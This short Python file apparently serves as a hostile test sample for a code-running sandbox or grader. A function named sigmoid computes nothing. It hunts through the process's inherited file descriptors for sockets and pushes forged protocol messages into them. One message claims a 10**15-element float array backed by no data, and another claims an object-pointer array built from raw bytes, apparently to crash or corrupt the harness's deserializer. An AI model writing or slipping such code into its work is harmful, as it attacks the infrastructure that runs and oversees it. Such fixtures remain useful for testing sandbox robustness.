"""Sends arrays whose shape and type do not fit their bytes."""

import json, os, socket, struct
def sockets():
    for fd in range(3, 256):
        try:
            yield socket.socket(fileno=os.dup(fd))
        except OSError:
            pass
def send(message):
    content = message if isinstance(message, bytes) else json.dumps(message).encode()
    for one in sockets():
        try:
            one.sendall(struct.pack("<I", len(content)) + content)
        except OSError:
            pass

def sigmoid(z):
    send({"id": 1, "value": {"result": {"array": ["<f8", [10**15], ""]}, "changed": {"dict": []}}})
    send({"id": 1, "value": {"result": {"array": ["|O8", [1], "AAAAAAAAAAA="]}, "changed": {"dict": []}}})
